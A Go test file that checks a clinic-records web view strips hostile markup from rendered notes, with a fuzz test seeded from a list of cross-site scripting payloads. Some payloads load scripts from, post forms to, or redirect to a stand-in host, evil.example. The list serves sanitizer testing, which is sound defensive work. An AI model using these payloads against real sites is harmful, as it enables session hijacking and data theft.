package view_test

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"postern.example/postern/internal/door/web/view"
	"postern.example/postern/internal/room/records"
	"postern.example/postern/internal/room/records/narrative"
	"postern.example/postern/test/covers"
)

// evilNotes are notes as an attacker would send them: each tries to run a script, load
// something, look like a part of the page, or say something that nobody sees.
func evilNotes() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img src="x"onerror="alert(1)">`, `<svg/onload=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
		`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<a href="javascript:alert(1)">call</a>`, `<a href="jav&#x09;ascript:alert(1)">call</a>`, `<p onmouseover="alert(1)">text</p>`,
		`<p style="background:url(//evil.example)">text</p>`, `<div style="display:none">not seen</div>`, `<p id="main" class="note">text</p>`,
		`<form action="//evil.example"><input name="p"><button>Send</button></form>`, `<base href="//evil.example"><link rel=stylesheet href=x>`,
		`<meta http-equiv="refresh" content="0;url=//evil.example">`, `<object data="x"></object><embed src="x">`, `<template><p>x</p></template>`,
		`</div></main></body><h1>Your account is locked</h1>`, `</section><section class="sheet">x`, `<p>` + "\u202e21\u200b" + `</p>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `<![CDATA[<script>alert(1)</script>]]>`, `<!--><img src=x onerror=alert(1)>-->`,
		`<p title="</p><script>alert(1)</script>">x</p>`, `<p title='>'onclick=alert(1)>x`, `{{.Nonce}}{{template "token" .}}`, "<p\x00onclick=alert(1)>x",
		`<style>@import "//evil.example"</style>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><script>1</script></textarea>`,
		`<table><td background="javascript:alert(1)">x<th onclick=1>y`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, "\xff<script\xfe>alert(1)",
	}
}

// noteTags are all that a note can put on a page.
var noteTags = []string{"<p>", "</p>", "<br>", "<strong>", "</strong>", "<em>", "</em>", "<ul>", "</ul>", "<ol>", "</ol>", "<li>", "</li>", `<p class="narrative-head">`,
	"<table>", "</table>", "<caption>", "</caption>", "<tbody>", "</tbody>", "<tr>", "</tr>", "<th>", "</th>", "<td>", "</td>",
	`<div class="scroll" tabindex="0" role="region" aria-label="Table in the note">`, "</div>"}

var anyTag = regexp.MustCompile(`<[^>]*>`)

// harmless renders a visit with that note and checks what stands of it on the page.
func harmless(t *testing.T, s *view.Set, note string) {
	t.Helper()
	for _, d := range []narrative.Doc{narrative.Parse(note, records.Visible), narrative.Plain(note, records.Visible)} {
		html := render(t, s, &view.Visit{Base: view.Base{Lang: "en", ClinicName: "C"}, Papers: []view.Note{{Title: "N", Text: d.Reveal()}}})
		_, part, found := strings.Cut(html, `<div class="narrative">`)
		if d.IsZero() {
			continue
		}
		part, _, ends := strings.Cut(part, "</section>")
		if !found || !ends {
			t.Fatalf("%q: the note is not on the page", note)
		}
		for _, tag := range anyTag.FindAllString(part, -1) {
			if !slices.Contains(noteTags, tag) {
				t.Errorf("%q put %s on the page", note, tag)
			}
		}
		if strings.ContainsAny(part, "\u202e\u200b\ufeff") {
			t.Errorf("%q hides a character", note)
		}
	}
}

// Nothing of a note's markup reaches the page but its shape.
func TestNotesAreHarmless(t *testing.T) {
	covers.Covers(t, "SD-4")
	s, _, _ := newSet(t)
	for _, note := range evilNotes() {
		harmless(t, s, note)
		harmless(t, s, "<p>before</p>"+note+"<ul><li>"+note+"<table><tr><td>"+note)
	}
	html := render(t, s, &view.Visit{Base: view.Base{Lang: "en", ClinicName: "C"}, Papers: []view.Note{{Title: "N",
		Text: narrative.Parse("<p>12\u202e21</p><p style=display:none>quietly</p>", records.Visible).Reveal()}}})
	for _, text := range []string{"⟦U&#43;202E⟧", "quietly"} {
		if !strings.Contains(html, text) {
			t.Errorf("%s is not on the page", text)
		}
	}
}

func FuzzNotes(f *testing.F) {
	s, _, _ := newSet(f)
	for _, note := range evilNotes() {
		f.Add(note)
	}
	f.Fuzz(func(t *testing.T, note string) { harmless(t, s, note) })
}
